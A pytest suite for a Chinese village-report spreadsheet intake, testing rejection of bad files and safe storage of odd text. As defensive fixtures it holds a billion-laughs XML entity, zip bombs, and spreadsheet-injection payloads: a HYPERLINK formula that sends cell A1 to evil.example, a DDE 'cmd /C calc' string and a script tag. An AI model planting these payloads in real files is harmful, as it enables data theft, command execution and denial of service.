"""Bad and odd files against ``prepare``: the exact Chinese sentence the user reads, and an untouched store.

Every file is built in code (see ``tests/intake_fixtures.py``). Each ``prepare`` is followed by a check
that every table of the demo store is byte-for-byte what it was (row counts and row checksums).
"""

from __future__ import annotations

import io
import json
import os
import re
import zipfile

import pytest
from sqlalchemy import select

from dashboard import models
from dashboard.intake import check_store, commit, record_refusal
from loaders import reader
from loaders.cells import clean_text, neutralise, norm_text
from loaders.errors import Issue
from tests.apptest import ADMIN
from tests.intake_fixtures import (
    SHEET,
    Formula,
    Styled,
    beyond_attempts,
    fingerprint,
    first_sheet,
    member,
    one,
    rewrite_zip,
    uploads_rows,
    workbook,
)

OTHER_COUNTY = "下溪县"
OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
LOL = b'<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'

MSG_NOT_INT = "应为非负整数,实际填写「三」。请改为非负整数"


# --- files that are not a readable spreadsheet -------------------------------------------------

def test_empty_file(intake):
    assert intake.file_error(b"") == "文件是空的(0 字节)。请确认选择了填写好的表格文件后重新上传。"


def test_png_named_xlsx(intake):
    png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(200)
    assert intake.file_error(png, name="照片.xlsx") == \
        "「照片.xlsx」不是 Excel(.xlsx)或 CSV 文件。请下载本系统的模板填写后上传。"


def test_legacy_xls(intake):
    assert intake.file_error(OLE2 + bytes(1024), name="月报.xls") == \
        "这是旧版 Excel(.xls)文件,系统不支持。请在 Excel 中“另存为”Excel 工作簿(*.xlsx)后再上传。"


def test_legacy_xls_renamed_xlsx_is_recognised_by_content(intake):
    assert intake.file_error(OLE2 + bytes(1024), name="月报.xlsx").startswith("这是旧版 Excel(.xls)文件")


def test_encrypted_workbook(intake):
    data = OLE2 + bytes(512) + "EncryptionInfo".encode("utf-16-le") + bytes(512)
    assert intake.file_error(data) == (
        "文件设置了打开密码,系统无法读取。请在 Excel 中取消密码(文件→信息→保护工作簿)后另存为 .xlsx 再上传。")


def test_macro_enabled_content_type(intake):
    good = intake.table().xlsx()
    types = member(good, "[Content_Types].xml").replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml")
    assert b"macroEnabled" in types
    message = "文件是启用宏的工作簿(.xlsm),为安全起见不予接收。请另存为 Excel 工作簿(*.xlsx)后再上传。"
    assert intake.file_error(rewrite_zip(good, {"[Content_Types].xml": types})) == message
    assert intake.file_error(good, name="月报.xlsm") == message


def test_truncated_xlsx(intake):
    good = intake.table().xlsx()
    assert intake.file_error(good[: len(good) // 2], name="月报.xlsx") == \
        "「月报.xlsx」已损坏,无法打开。请在 Excel 中重新保存为 .xlsx 后上传。"


def test_damaged_sheet_member(intake):
    good = intake.table().xlsx()
    info = zipfile.ZipFile(io.BytesIO(good)).getinfo(first_sheet(good))
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra) + 50
    damaged = good[:start] + b"\xff" * 20 + good[start + 20:]
    assert intake.file_error(damaged, name="月报.xlsx") == \
        "「月报.xlsx」已损坏,无法打开。请在 Excel 中重新保存为 .xlsx 后上传。"


# --- bombs and limits --------------------------------------------------------------------------

def test_zip_bomb_by_compression_ratio(intake, limits):
    bomb = rewrite_zip(intake.table().xlsx(), add={"xl/media/image1.png": bytes(20 * 1024 * 1024)})
    assert len(bomb) < 200_000
    assert intake.file_error(bomb) == "文件压缩比异常(疑似压缩炸弹),已拒绝读取。请使用本系统模板重新填写。"


def test_zip_bomb_by_total_size(intake, limits):
    limits(max_uncompressed_mb=2)
    bomb = rewrite_zip(intake.table().xlsx(), add={"xl/media/image1.png": bytes(3 * 1024 * 1024)})
    assert intake.file_error(bomb) == "文件解压后过大(疑似压缩炸弹),已拒绝读取。请只保留需要上报的数据后重新保存。"


def test_intake_toml_holds_every_limit():
    assert set(reader.limits()) == {"max_file_mb", "max_rows", "max_columns", "max_cells", "max_members",
                                    "max_member_mb", "max_uncompressed_mb", "max_compression_ratio",
                                    "max_file_name_chars", "max_user_chars", "max_boundary_mb"}


def test_file_over_size_limit(intake, limits):
    limits(max_file_mb=1)
    data = rewrite_zip(intake.table().xlsx(), add={"xl/media/image1.png": os.urandom(1_200_000)})
    assert intake.file_error(data) == "文件超过 1 MB 上限。请删除无关工作表或图片后重新上传。"


def _with_dimension(data: bytes, ref: bytes | None) -> bytes:
    sheet = first_sheet(data)
    xml = member(data, sheet)
    new = b"" if ref is None else b'<dimension ref="' + ref + b'" />'
    return rewrite_zip(data, {sheet: re.sub(rb'<dimension ref="[^"]*"\s*/>', new, xml)})


def _with_cell(data: bytes, ref: str, value: bytes = b"<v>1</v>", dimension: bytes | None = b"A1:N116") -> bytes:
    """``data`` with one more cell at ``ref`` (in a row of its own at the end) and the given <dimension>."""
    sheet = first_sheet(data)
    row = re.search(r"\d+", ref).group()
    xml = member(data, sheet).replace(b"</sheetData>", f'<row r="{row}"><c r="{ref}" t="n">'.encode() + value
                                      + b"</c></row></sheetData>")
    return _with_dimension(rewrite_zip(data, {sheet: xml}), dimension)


def test_a_false_dimension_is_ignored(intake, limits):
    """<dimension> is the file's own claim: neither a huge nor a tiny one changes what is read."""
    for ref in (b"A1:XFD1048576", b"A1:N70000", b"A1:B2"):
        assert intake.accepted(_with_dimension(intake.table().xlsx(), ref)).rows == 115


def test_a_far_cell_is_refused_by_its_own_position(intake, limits):
    """One cell at XFD1048576 with a small false <dimension> (or none) must not reach the reader's grid."""
    for dimension in (b"A1:N116", None):
        error = one(intake.refused(_with_cell(intake.table().xlsx(), "XFD1048576", dimension=dimension)))
        assert (error.sheet, error.row) == (SHEET, 1048576)
        assert error.text() == (
            "工作表「村级指标月报」第1048576行:单元格 XFD1048576 超出上限(60000 行、200 列)。"
            "请删除远离数据区域的内容(选中多余的行或列 → 删除),数据确实过多时请拆分文件后上传。")


def test_too_many_rows_by_a_real_cell(intake, limits):
    error = one(intake.refused(_with_cell(intake.table().xlsx(), "A70000")))
    assert error.text().startswith("工作表「村级指标月报」第70000行:单元格 A70000 超出上限(60000 行、200 列)")


def test_too_many_columns_by_a_real_cell(intake, limits):
    error = one(intake.refused(_with_cell(intake.table().xlsx(), "HZ20")))
    assert error.text().startswith("工作表「村级指标月报」第20行:单元格 HZ20 超出上限(60000 行、200 列)")


def test_an_empty_styled_far_cell_is_harmless(intake, limits):
    """Excel writes formatted empty cells as <c r=".." s="1"/>; they hold nothing and take no room."""
    data = _with_cell(intake.table().xlsx(), "XFD1048576", value=b"")
    assert intake.accepted(data).rows == 115


def test_lowered_row_limit_counts_real_cells(intake, limits):
    limits(max_rows=100)
    error = one(intake.refused(intake.table().xlsx()))
    assert (error.sheet, error.row) == (SHEET, 101)
    assert error.message.startswith("单元格 A101 超出上限(100 行、200 列)")


def test_row_limit_without_dimension_is_still_enforced(intake, limits):
    limits(max_rows=100)
    error = one(intake.refused(_with_dimension(intake.table().xlsx(), None)))
    assert error.text().startswith("工作表「村级指标月报」第101行:单元格 A101 超出上限(100 行、200 列)")


def test_cell_area_limit(intake, limits):
    """Two cells far apart span rows × columns cells of the reader's grid, however empty it is between them."""
    limits(max_cells=116 * 14 - 1)
    error = one(intake.refused(intake.table().xlsx()))
    assert error.text() == ("工作表「村级指标月报」:数据区域达 116 行 × 14 列,超过 1623 个单元格的上限。"
                            "请删除远离数据区域的内容(选中多余的行或列 → 删除)后上传。")


UNSAFE_XML = "文件内部含有不安全的 XML 声明,已拒绝读取。请用 Excel 另存为新的 .xlsx 后上传。"


def test_xml_entities_in_sheet(intake):
    good = intake.table().xlsx()
    sheet = first_sheet(good)
    bomb = rewrite_zip(good, {sheet: b'<?xml version="1.0"?>' + LOL + member(good, sheet)})
    assert intake.file_error(bomb) == UNSAFE_XML


@pytest.mark.parametrize("part", ["xl/workbook.xml", "[Content_Types].xml", "_rels/.rels",
                                  "xl/_rels/workbook.xml.rels", "xl/styles.xml"])
def test_xml_entities_in_workbook_parts(intake, part):
    good = intake.table().xlsx()
    bomb = rewrite_zip(good, {part: b'<?xml version="1.0"?>' + LOL + member(good, part)})
    assert intake.file_error(bomb, name="月报.xlsx") == UNSAFE_XML


def test_xml_entity_declared_after_a_long_comment_is_refused(intake):
    """The whole part is parsed, not a head of it: a DOCTYPE after 5 KB of comment is still found."""
    good = intake.table().xlsx()
    sheet = first_sheet(good)
    xml = member(good, sheet)
    cell = re.search(rb'<c r="C2"[^>]*>.*?</c>', xml).group()
    xml = xml.replace(cell, b'<c r="C2" t="inlineStr"><is><t>&lol2;</t></is></c>')
    late = b'<?xml version="1.0"?><!--' + b"x" * 5000 + b"-->" + LOL + xml
    assert intake.file_error(rewrite_zip(good, {sheet: late}), name="月报.xlsx") == UNSAFE_XML


# --- headers -------------------------------------------------------------------------------------

def test_unrelated_table(intake):
    data = workbook([("花名册", [["姓名", "性别", "年龄"], ["张三", "男", 30]])])
    assert intake.file_error(data) == (
        "未找到「村级指标月报」的表头(如「县(市、区)」「乡镇(街道)」「村(社区)」)。"
        "请确认上传的是该类报表,表头在前 20 行内,且使用本系统模板。")


def test_header_drift_names_the_missing_column(intake):
    table = intake.table().rename("法律明白人数", "法律明白人员数量")
    error = one(intake.refused(table.xlsx()))
    assert (error.sheet, error.row, error.column) == (SHEET, 1, None)
    assert error.text() == (
        "工作表「村级指标月报」第1行:表头缺少必填列「法律明白人数」。"
        "请按模板补上这些列(列名可用模板中的写法)后重新上传。")


def test_aliases_title_row_and_header_markers_are_accepted(intake):
    table = intake.table()
    table.headers = ["县（市、区）", "乡镇", "村名", "代码", "*法律明白人(必填)", "小微权力清单", "纪检委员",
                     "“三务”公开", "村务监督委员会", "发现", "查处", "通报曝光", "受理", "矛盾纠纷\n(化解)"]
    table.title_rows = [["2026年1月清廉乡村建设村级指标月报"], [None], ["填报单位:北亭县纪委监委"]]
    preview = intake.accepted(table.xlsx(merges=["A1:N1"]))
    assert preview.rows == 115
    assert preview.diff == {"added": 115, "changed": 0, "unchanged": 0, "missing": 0}
    first = preview.result.records[0]
    assert first["village_code"] == table.get(0, "代码")
    assert first["legal_persons"] == table.get(0, "*法律明白人(必填)")


def test_merged_two_row_header_is_accepted(intake):
    table = intake.table()
    top = table.headers[:9] + ["问题线索", None, None, "矛盾纠纷", None]
    sub = [None] * 9 + ["发现", "查处", "通报曝光", "受理", "化解"]
    merges = [f"{c}1:{c}2" for c in "ABCDEFGHI"] + ["J1:L1", "M1:N1"]
    data = workbook([(SHEET, [top, sub, *table.rows])], merges={SHEET: merges})
    preview = intake.accepted(data)
    assert preview.rows == 115
    rec = preview.result.records[3]
    assert (rec["clues_found"], rec["clues_handled"], rec["disputes_resolved"]) == (
        table.rows[3][9], table.rows[3][10], table.rows[3][13])


# --- formulas ------------------------------------------------------------------------------------

def test_formula_without_cached_value(intake):
    """A formula cell with no <v> at all (as some programs write it) is named by its cell reference."""
    good = intake.table().xlsx()
    sheet = first_sheet(good)
    xml = member(good, sheet)
    cell = re.search(rb'<c r="E4"[^>]*>.*?</c>', xml).group()
    data = rewrite_zip(good, {sheet: xml.replace(cell, b'<c r="E4"><f>1+2</f></c>')})
    error = one(intake.refused(data))
    assert error.row == 4
    assert error.text() == (
        "第4行:单元格 E4 是公式但没有保存计算结果(常见于程序生成的文件)。"
        "请在 Excel 中打开、确认数值后保存,或把公式复制后“粘贴为数值”再上传。")


FORMULA_MESSAGE = ("是公式但没有保存计算结果(常见于程序生成的文件)。"
                   "请在 Excel 中打开、确认数值后保存,或把公式复制后“粘贴为数值”再上传。")


def test_formula_written_by_openpyxl(intake):
    """openpyxl writes <f>1+2</f><v /> — an empty cached value, which must not read as an empty cell."""
    table = intake.table().set(2, "法律明白人数", Formula("=1+2"))
    error = one(intake.refused(table.xlsx()))
    assert error.text() == f"第4行:单元格 E4 {FORMULA_MESSAGE}"


def test_formula_in_an_optional_text_column_is_not_silently_dropped(intake, demo):
    measure = demo["plan"].measures[0]
    row = [measure["number"], measure["lead_unit"], "推进中", 40, Formula("=1+2"), "张三"]
    data = workbook([("措施推进月报", [["措施序号", "责任单位", "推进状态", "完成进度(%)", "本月进展", "填报人"], row])])
    error = one(intake.refused(data, name="措施.xlsx", kind="measure_progress", scope=measure["lead_unit"]))
    assert error.text() == f"第2行:单元格 E2 {FORMULA_MESSAGE}"


def test_excel_formula_with_an_empty_text_result_is_accepted(intake):
    good = intake.table().xlsx()
    sheet = first_sheet(good)
    xml = member(good, sheet)
    cell = re.search(rb'<c r="N4"[^>]*>.*?</c>', xml).group()
    excel_cell = '<c r="O4" t="str"><f>IF(E4&gt;30,"超","")</f><v/></c>'.encode()
    intake.accepted(rewrite_zip(good, {sheet: xml.replace(cell, cell + excel_cell)}))


def test_formula_with_cached_value_is_accepted(intake):
    good = intake.table().xlsx()
    sheet = first_sheet(good)
    xml = member(good, sheet)
    cell = re.search(rb'<c r="E4"[^>]*>.*?</c>', xml).group()
    preview = intake.accepted(rewrite_zip(good, {sheet: xml.replace(cell, b'<c r="E4"><f>1+2</f><v>3</v></c>')}))
    assert preview.result.records[2]["legal_persons"] == 3


# --- cell values ---------------------------------------------------------------------------------

def test_number_variants_are_accepted(intake):
    table = intake.table()
    variants = ["3人", "３", "3.0", 3.0, " 3 ", "3名"]
    for i, value in enumerate(variants):
        table.set(i, "法律明白人数", value)
    table.set(0, "问题线索发现数", "1,000").set(0, "问题线索查处数", 0).set(0, "问题线索通报曝光数", 0)
    preview = intake.prepare(table.xlsx())
    assert preview.ok, [i.text() for i in preview.errors]
    assert [r["legal_persons"] for r in preview.result.records[:6]] == [3] * 6
    assert preview.result.records[0]["clues_found"] == 1000


def test_chinese_numeral_is_refused(intake):
    table = intake.table().set(5, "法律明白人数", "三")
    error = one(intake.refused(table.xlsx()))
    assert error == Issue(SHEET, 7, "法律明白人数", "三", MSG_NOT_INT)
    assert error.text() == f"工作表「村级指标月报」第7行「法律明白人数」:{MSG_NOT_INT}"


def test_fraction_is_refused(intake):
    error = one(intake.refused(intake.table().set(5, "法律明白人数", "3.5").xlsx()))
    assert error.text() == "工作表「村级指标月报」第7行「法律明白人数」:应为整数,不能有小数,实际填写「3.5」。请改为非负整数"


def test_number_shown_as_date_is_refused_as_the_user_sees_it(intake):
    table = intake.table().set(5, "法律明白人数", Styled(3, "yyyy-mm-dd"))
    error = one(intake.refused(table.xlsx()))
    assert error.text() == \
        "工作表「村级指标月报」第7行「法律明白人数」:应为非负整数,实际填写「1900-01-03」。请改为非负整数"


def test_negative_count(intake):
    table = intake.table().set(5, "法律明白人数", -2).set(6, "矛盾纠纷受理数", "-1")
    errors = intake.refused(table.xlsx())
    assert [i.text() for i in errors] == [
        "工作表「村级指标月报」第7行「法律明白人数」:不能为负数,实际填写「-2」。请改为非负整数",
        "工作表「村级指标月报」第8行「矛盾纠纷受理数」:不能为负数,实际填写「-1」。请改为非负整数",
    ]


def test_handled_more_than_found(intake):
    table = intake.table()
    table.set(5, "问题线索发现数", 1).set(5, "问题线索查处数", 2).set(5, "问题线索通报曝光数", 0)
    error = one(intake.refused(table.xlsx()))
    assert error.text() == "工作表「村级指标月报」第7行「问题线索查处数」:不能大于「问题线索发现数」(1)。请核对后修改"


def test_count_beyond_store_range_is_refused(intake):
    """Above a 32-bit INTEGER the commit would crash (PostgreSQL); prepare refuses far below that."""
    table = intake.table().set(3, "法律明白人数", 10**20).set(4, "矛盾纠纷受理数", 1_000_001)
    assert [i.text() for i in intake.refused(table.xlsx())] == [
        "工作表「村级指标月报」第5行「法律明白人数」:数值过大(超过1000000),实际填写「100000000000000000000」。请改为非负整数",
        "工作表「村级指标月报」第6行「矛盾纠纷受理数」:数值过大(超过1000000),实际填写「1000001」。请改为非负整数",
    ]


def test_largest_count_is_accepted(intake):
    table = intake.table().set(4, "矛盾纠纷受理数", 1_000_000)
    assert intake.accepted(table.xlsx()).result.records[4]["disputes_received"] == 1_000_000


def test_bool_variants(intake):
    table = intake.table()
    words = ["是", "否", "√", "×", "有", "无", " 是 ", "Y", "已配备", "未配备"]
    for i, word in enumerate(words):
        table.set(i, "纪检委员已配备", word)
    preview = intake.accepted(table.xlsx())
    assert [r["discipline_member"] for r in preview.result.records[:10]] == \
        [True, False, True, False, True, False, True, True, True, False]


def test_bool_unknown_word(intake):
    error = one(intake.refused(intake.table().set(4, "纪检委员已配备", "不清楚").xlsx()))
    assert error.text() == "工作表「村级指标月报」第6行「纪检委员已配备」:应填“是”或“否”,实际填写「不清楚」。请改为是/否"


def test_code_as_excel_number_is_accepted(intake):
    table = intake.table()
    code = table.get(4, "区划代码")
    table.set(4, "区划代码", int(code))
    preview = intake.accepted(table.xlsx())
    assert preview.result.records[4]["village_code"] == code


def test_code_that_lost_a_digit(intake):
    table = intake.table()
    short = int(table.get(4, "区划代码")) // 10
    error = one(intake.refused(table.set(4, "区划代码", short).xlsx()))
    assert "12位" in error.message
    assert error.text() == (
        "工作表「村级指标月报」第6行「区划代码」:应为12位数字的区划代码(请把单元格设为文本格式,保留开头的0),"
        f"实际填写「{short}」。请改为12位区划代码(文本)")


# --- villages and rows ---------------------------------------------------------------------------

def test_village_of_another_county(intake, demo):
    other = next(v for v in demo["villages"] if v.county == OTHER_COUNTY)
    table = intake.table()
    table.rows[6][:4] = [other.county, other.township, other.name, other.code]
    error = one(intake.refused(table.xlsx()))
    assert error.text() == (
        f"工作表「村级指标月报」第8行「县(市、区)」:「{other.township}{other.name}」属于{OTHER_COUNTY},"
        f"不属于本次上报的县。请删除该行,或在{OTHER_COUNTY}的报表中上报")


def test_two_counties_without_a_chosen_scope_are_two_parts(intake, demo):
    """No county chosen: a file naming two counties is the city office's consolidated file, cut by county."""
    other = next(v for v in demo["villages"] if v.county == OTHER_COUNTY)
    table = intake.table()
    replaced = table.rows[6][:4]
    table.rows[6][:4] = [other.county, other.township, other.name, other.code]
    preview = intake.accepted(table.xlsx(), scope=None)
    assert preview.scope is None
    assert [(p.scope_name, p.rows, p.roster_total) for p in preview.split] == [(OTHER_COUNTY, 1, 162), ("北亭县", 114, 115)]
    assert preview.split[1].roster_missing == [tuple(replaced[1:4])]
    assert preview.partial and len(preview.split[0].roster_missing) == 161


def test_duplicate_rows(intake):
    table = intake.table()
    table.rows[8] = list(table.rows[3])
    error = one(intake.refused(table.xlsx()))
    assert error.text() == (
        "工作表「村级指标月报」第10行「村(社区)」:与第5行重复(同一个村只能填一行)。请删除重复的行")
    assert error.value == table.get(3, "村(社区)")


def test_unknown_village_with_a_close_name(intake):
    table = intake.table()
    town, name = table.get(4, "乡镇(街道)"), table.get(4, "村(社区)")
    typo = name.removesuffix("村") + "屯"
    table.set(4, "区划代码", None).set(4, "村(社区)", typo)
    error = one(intake.refused(table.xlsx()))
    assert "您是否要找:" in error.message
    assert error.text() == f"工作表「村级指标月报」第6行「村(社区)」:在{town}未找到「{typo}」。您是否要找:{town}{name}?"


def test_village_name_with_committee_suffix_is_accepted(intake):
    table = intake.table()
    code = table.get(4, "区划代码")
    table.set(4, "区划代码", None).set(4, "村(社区)", table.get(4, "村(社区)") + "委会")
    assert intake.accepted(table.xlsx()).result.records[4]["village_code"] == code


def test_blank_rows_keep_excel_row_numbers(intake):
    table = intake.table()
    table.rows[5:5] = [[None] * 14, [None] * 14]
    table.set(9, "法律明白人数", "三")
    error = one(intake.refused(table.xlsx()))
    assert (error.row, error.message) == (11, MSG_NOT_INT)


def test_blank_rows_above_header_and_an_empty_first_column(intake):
    table = intake.table()
    table.title_rows = [[None], [None]]
    table.headers = [None, *table.headers]
    table.rows = [[None, *row] for row in table.rows]
    table.set(3, "法律明白人数", "三")
    error = one(intake.refused(table.xlsx()))
    assert (error.row, error.column, error.message) == (7, "法律明白人数", MSG_NOT_INT)


def test_total_row_is_ignored(intake):
    table = intake.table()
    table.rows += [[None] * 14, ["合计", None, None, None, 999, None, None, None, None, 5, 9, 9, 1, 1]]
    preview = intake.accepted(table.xlsx())
    assert preview.rows == 115


@pytest.mark.parametrize("label", ["合计:", "总计(115个村)", "合 计"])
def test_total_row_with_punctuation_is_ignored(intake, label):
    table = intake.table()
    table.rows.append([label, None, None, None, 999])
    assert intake.accepted(table.xlsx()).rows == 115


def test_all_errors_of_a_file_are_reported_at_once(intake):
    table = intake.table()
    town = table.get(2, "乡镇(街道)")
    table.set(2, "区划代码", None).set(2, "村(社区)", "无此村")
    table.set(4, "法律明白人数", -1)
    table.set(6, "问题线索发现数", 0).set(6, "问题线索查处数", 5).set(6, "问题线索通报曝光数", 0)
    errors = intake.refused(table.xlsx())
    assert sorted(i.text() for i in errors) == sorted([
        f"工作表「村级指标月报」第4行「村(社区)」:在{town}未找到「无此村」,请核对村名,或先上报村级名录",
        "工作表「村级指标月报」第6行「法律明白人数」:不能为负数,实际填写「-1」。请改为非负整数",
        "工作表「村级指标月报」第8行「问题线索查处数」:不能大于「问题线索发现数」(0)。请核对后修改",
    ])


def test_all_errors_are_listed_in_row_order(intake):
    table = intake.table()
    table.set(2, "区划代码", None).set(2, "村(社区)", "无此村")
    table.set(4, "法律明白人数", -1)
    table.set(6, "问题线索发现数", 0).set(6, "问题线索查处数", 5).set(6, "问题线索通报曝光数", 0)
    assert [i.row for i in intake.refused(table.xlsx())] == [4, 6, 8]


# --- CSV -----------------------------------------------------------------------------------------

@pytest.mark.parametrize(("encoding", "delimiter"), [
    ("gbk", ","), ("gb18030", ","), ("utf-8-sig", ","), ("utf-8", ","), ("gbk", "\t")])
def test_csv_encodings_read_names_correctly(intake, encoding, delimiter):
    table = intake.table()
    codes = [row[3] for row in table.rows]
    for row in table.rows:
        row[3] = None  # match by county/township/village names only
    preview = intake.accepted(table.csv(encoding, delimiter), name="月报.csv", scope=None)
    assert preview.scope == intake.code
    assert [r["village_code"] for r in preview.result.records] == codes


def test_csv_error_names_the_line(intake):
    data = intake.table().set(5, "法律明白人数", "三").csv("gbk")
    error = one(intake.refused(data, name="月报.csv"))
    assert error.text() == f"工作表「CSV」第7行「法律明白人数」:{MSG_NOT_INT}"


def test_utf16_text_export_is_refused_with_a_way_forward(intake):
    data = intake.table().csv("utf-16", "\t")
    assert intake.file_error(data, name="月报.txt") == \
        "CSV 文件的文字编码无法识别。请在 Excel 中另存为“CSV UTF-8(逗号分隔)”或 .xlsx 后上传。"


# --- text that looks like code -------------------------------------------------------------------

INJECTION = '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")'


def test_formula_and_html_text_are_stored_verbatim(intake, demo):
    measure = demo["plan"].measures[0]
    unit = measure["lead_unit"]
    header = ["措施序号", "措施名称", "责任单位", "推进状态", "完成进度(%)", "本月进展", "存在问题", "下步计划", "填报人"]
    row = [measure["number"], measure["title"], unit, "推进中", 40, INJECTION, "<script>alert(1)</script>",
           "+cmd|' /C calc'!A0", "@张三"]
    preview = intake.accepted(workbook([("措施推进月报", [header, row])]), name="措施.xlsx",
                              kind="measure_progress", scope=unit)
    upload_id = commit(intake.engine, preview, who=ADMIN)
    with intake.engine.connect() as conn:
        stored = conn.execute(select(models.MeasureReport).where(models.MeasureReport.upload_id == upload_id)
                              ).mappings().one()
    assert (stored["this_month"], stored["problems"], stored["next_steps"], stored["reporter"]) == (
        INJECTION, "<script>alert(1)</script>", "+cmd|' /C calc'!A0", "@张三")
    assert check_store(intake.engine) == []


@pytest.mark.parametrize(("text", "safe"), [
    (INJECTION, "'" + INJECTION),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'=1+1"),  # a carriage return is a control character: removed, the formula still defused
    ("\x01=1+1\x1b", "'=1+1"),
    ("部分村进度偏慢", "部分村进度偏慢"),
    ("<script>alert(1)</script>", "<script>alert(1)</script>"),
    ("", ""),
])
def test_neutralise_for_excel_export(text, safe):
    assert neutralise(text) == safe
    if text[:1] != "\t":  # norm_text drops the quote only before = + - @
        assert norm_text(neutralise(text)) == clean_text(text), "an exported cell read back is the original text"


# --- refusals are recorded, and nothing else changes ---------------------------------------------

def test_record_refusal_adds_one_refused_upload_only(intake, demo):
    before = uploads_rows(intake.engine)
    preview = intake.prepare(intake.table().set(5, "法律明白人数", "三").xlsx())
    upload_id = record_refusal(intake.engine, preview)
    after_print = fingerprint(intake.engine)
    assert beyond_attempts(after_print) == beyond_attempts(demo["fingerprint"])
    assert after_print["audit_log"][0] == demo["fingerprint"]["audit_log"][0] + 1  # the refusal, audited
    after = uploads_rows(intake.engine)
    assert after[:-1] == before
    new = after[-1]
    assert new["id"] == upload_id
    assert (new["outcome"], new["active"], new["content"], new["scope"], new["rows"], new["errors"]) == (
        "refused", False, None, intake.code, 115, 1)
    assert new["sha256"] == preview.sha256
    assert new["message"] == f"共 1 处错误。工作表「村级指标月报」第7行「法律明白人数」:{MSG_NOT_INT}"
    assert json.loads(new["issues"]) == [Issue(SHEET, 7, "法律明白人数", "三", MSG_NOT_INT).to_dict()]
    assert check_store(intake.engine) == []


def test_record_refusal_of_an_unreadable_file(intake):
    before = uploads_rows(intake.engine)
    preview = intake.prepare(b"", name="空.xlsx", scope=None)
    record_refusal(intake.engine, preview)
    after = uploads_rows(intake.engine)
    assert after[:-1] == before
    new = after[-1]
    assert (new["outcome"], new["scope"], new["file_name"], new["rows"]) == ("refused", "未确定", "空.xlsx", 0)
    assert new["message"] == "共 1 处错误。文件是空的(0 字节)。请确认选择了填写好的表格文件后重新上传。"
